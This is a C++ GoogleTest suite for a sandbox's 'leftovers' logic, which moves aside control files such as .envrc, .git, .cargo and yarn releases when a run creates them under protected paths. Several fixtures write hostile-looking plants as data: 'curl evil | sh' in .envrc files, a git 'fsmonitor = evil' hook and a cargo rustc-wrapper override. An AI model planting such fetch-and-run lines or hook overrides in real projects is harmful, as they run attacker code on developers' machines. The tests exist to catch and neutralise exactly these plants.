// Control files a run creates are moved aside after it (sandbox/leftovers.hpp).
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>

#include "sandbox/leftovers.hpp"
#include "support/temp_dir.hpp"

using namespace airlock::sandbox;
using airlock::policy::PathRule;
using airlock::test::TempDir;

namespace {

bool lexists(const std::string& path) {
  struct stat st {};
  return ::lstat(path.c_str(), &st) == 0;
}

airlock::policy::Filesystem project_fs(const TempDir& project, std::vector<std::string> protect) {
  airlock::policy::Filesystem fs;
  fs.write = {PathRule{project.path(), false, {}, false}};
  for (auto& p : protect) fs.protect.push_back(PathRule{project / p, true, {}, false});
  return fs;
}

TEST(Leftovers, OnlyAbsentProtectedPathsBeneathAWritablePathAreWatched) {
  TempDir project;
  project.write(".git/config", "");
  auto fs = project_fs(project, {".git", ".envrc", ".yarn/releases"});
  fs.protect.push_back(PathRule{"/nonexistent-airlock-test/x", true, {}, false});
  const auto watched = watch_absent_protected(fs, lexists);
  ASSERT_EQ(watched.size(), 2u);
  EXPECT_EQ(watched[0].path, project / ".envrc");
  EXPECT_EQ(watched[1].base, std::filesystem::canonical(project.path()).string());
  EXPECT_EQ(watched[1].below, (std::vector<std::string>{".yarn", "releases"}));
}

TEST(Leftovers, ACreatedControlFileIsMovedAsideAndItsNewParentKept) {
  TempDir project;
  const auto watched = watch_absent_protected(project_fs(project, {".envrc", ".yarn/releases", ".github"}), lexists);
  project.write(".envrc", "curl evil | sh\n");
  project.write(".yarn/cache/a.zip", "");
  project.write(".yarn/releases/yarn.cjs", "");
  const auto moved = move_aside_created(watched);
  ASSERT_EQ(moved.size(), 2u);
  EXPECT_FALSE(lexists(project / ".envrc"));
  EXPECT_TRUE(moved[0].moved_to.starts_with(project / ".envrc.airlock-refused-")) << moved[0].moved_to;
  EXPECT_TRUE(lexists(moved[0].moved_to));
  EXPECT_FALSE(lexists(project / ".yarn/releases"));
  EXPECT_TRUE(lexists(project / ".yarn/cache/a.zip"));  // yarn's own cache is not a control file
}

// A link on the way is moved aside itself, never followed: renaming through
// it could move a host directory it points at.
TEST(Leftovers, ALinkOnTheWayIsMovedAsideNotFollowed) {
  TempDir project, elsewhere;
  elsewhere.write("releases/keep", "host file");
  const auto watched = watch_absent_protected(project_fs(project, {".yarn/releases"}), lexists);
  ASSERT_EQ(::symlink(elsewhere.path().c_str(), (project / ".yarn").c_str()), 0);
  const auto moved = move_aside_created(watched);
  ASSERT_EQ(moved.size(), 1u);
  EXPECT_EQ(moved[0].path, project / ".yarn");
  EXPECT_TRUE(lexists(elsewhere / "releases/keep"));
  EXPECT_FALSE(lexists(project / ".yarn"));
}

TEST(Leftovers, NothingCreatedNothingMoved) {
  TempDir project;
  const auto watched = watch_absent_protected(project_fs(project, {".envrc"}), lexists);
  EXPECT_TRUE(move_aside_created(watched).empty());
}

// Control files below the project's top: git, direnv, cargo and yarn look
// for them from the working directory upwards.
TEST(Leftovers, NestedControlFilesThatExistAreProtectedAndNewOnesMovedAside) {
  TempDir project;
  project.write(".git/config", "");
  project.write("vendor/lib/.git/config", "[core]\n");
  project.write("node_modules/pkg/.envrc", "shipped\n");
  project.write("src/main.c", "");
  const std::string real = std::filesystem::canonical(project.path()).string();
  std::vector<PathRule> protect;
  const auto nested =
      watch_nested_control(project_fs(project, {".git", ".envrc", ".yarn/releases", ".cargo"}), project.path(), protect);
  EXPECT_EQ(nested.relatives, (std::vector<std::string>{".git", ".envrc", ".yarn/releases", ".cargo"}));
  EXPECT_EQ(nested.existing, (std::vector<std::string>{"vendor/lib/.git"}));
  ASSERT_EQ(protect.size(), 1u);
  EXPECT_EQ(protect[0].path, real + "/vendor/lib/.git");

  project.write("src/.git/config", "[core]\nfsmonitor = evil\n");
  project.write("src/deep/.envrc", "curl evil | sh\n");
  project.write("tools/.cargo/config.toml", "[build]\nrustc-wrapper = \"/x\"\n");
  project.write("new/.yarn/releases/yarn.cjs", "");
  project.write("node_modules/other/.envrc", "shipped\n");
  project.write(".git/modules/x/.envrc", "");  // inside a protected path: read-only there
  ASSERT_EQ(::symlink("/etc", (project / "link").c_str()), 0);
  std::vector<std::string> paths;
  for (const auto& m : move_aside_nested(nested)) {
    paths.push_back(m.path);
    EXPECT_TRUE(m.moved_to.starts_with(m.path + ".airlock-refused-")) << m.path << " " << m.why;
    EXPECT_EQ(m.rule.substr(0, project.path().size()), project.path()) << m.rule;
  }
  std::sort(paths.begin(), paths.end());
  EXPECT_EQ(paths, (std::vector<std::string>{real + "/new/.yarn/releases", real + "/src/.git", real + "/src/deep/.envrc",
                                             real + "/tools/.cargo"}));
  EXPECT_TRUE(lexists(project / "vendor/lib/.git/config"));
  EXPECT_TRUE(lexists(project / "node_modules/other/.envrc"));
  EXPECT_TRUE(lexists(project / ".git/modules/x/.envrc"));
  EXPECT_FALSE(lexists(project / "src/.git"));
}

TEST(Leftovers, NoProtectedPathUnderTheProjectWatchesNothingNested) {
  TempDir project;
  project.write("sub/.envrc", "");
  std::vector<PathRule> protect;
  const auto nested = watch_nested_control(project_fs(project, {}), project.path(), protect);
  EXPECT_TRUE(protect.empty());
  EXPECT_TRUE(move_aside_nested(nested).empty());
  EXPECT_TRUE(lexists(project / "sub/.envrc"));
}

// A step could hide a control file beyond the walk's limit by growing the
// tree past it: the run is then refused, not passed unchecked.
TEST(Leftovers, ATreeGrownPastTheWalkLimitFailsTheCheck) {
  TempDir project;
  project.write("src/main.c", "");
  std::vector<PathRule> protect;
  auto nested = watch_nested_control(project_fs(project, {".envrc"}), project.path(), protect);
  ASSERT_TRUE(nested.complete);
  nested.max_directories = 20;  // the real limit is 100000: the same code, a smaller tree
  nested.max_depth = 8;
  ASSERT_EQ(::mkdir((project / "many").c_str(), 0755), 0);
  for (int i = 0; i <= 20; ++i) ASSERT_EQ(::mkdir((project / ("many/" + std::to_string(i))).c_str(), 0755), 0);
  project.write("many/19/.envrc", "curl evil | sh\n");
  auto refused = [](const std::vector<MovedAside>& moved) {
    return std::any_of(moved.begin(), moved.end(), [](const MovedAside& m) {
      return m.moved_to.empty() && m.why.find("not all were searched") != std::string::npos;
    });
  };
  EXPECT_TRUE(refused(move_aside_nested(nested)));
  // Deep rather than wide.
  TempDir deep;
  auto deep_nested = watch_nested_control(project_fs(deep, {".envrc"}), deep.path(), protect);
  deep_nested.max_depth = 8;
  deep.write("a/b/c/d/e/f/g/h/i/j/.envrc", "curl evil | sh\n");
  EXPECT_TRUE(refused(move_aside_nested(deep_nested)));
  // Within the limits, the same plant is found and moved aside.
  deep_nested.max_depth = 128;
  const auto moved = move_aside_nested(deep_nested);
  ASSERT_EQ(moved.size(), 1u);
  EXPECT_FALSE(moved[0].moved_to.empty()) << moved[0].why;
}

// A directory with more subdirectories than the process may hold open
// descriptors: each is walked (one descriptor per level, not per entry).
TEST(Leftovers, ManySubdirectoriesAreAllSearched) {
  TempDir project;
  std::vector<PathRule> protect;
  const auto nested = watch_nested_control(project_fs(project, {".envrc"}), project.path(), protect);
  ASSERT_EQ(::mkdir((project / "many").c_str(), 0755), 0);
  for (int i = 0; i < 3000; ++i) ASSERT_EQ(::mkdir((project / ("many/" + std::to_string(i))).c_str(), 0755), 0);
  project.write("many/2999/.envrc", "curl evil | sh\n");
  project.write("many/7/.envrc", "curl evil | sh\n");
  EXPECT_EQ(move_aside_nested(nested).size(), 2u);
}

}  // namespace
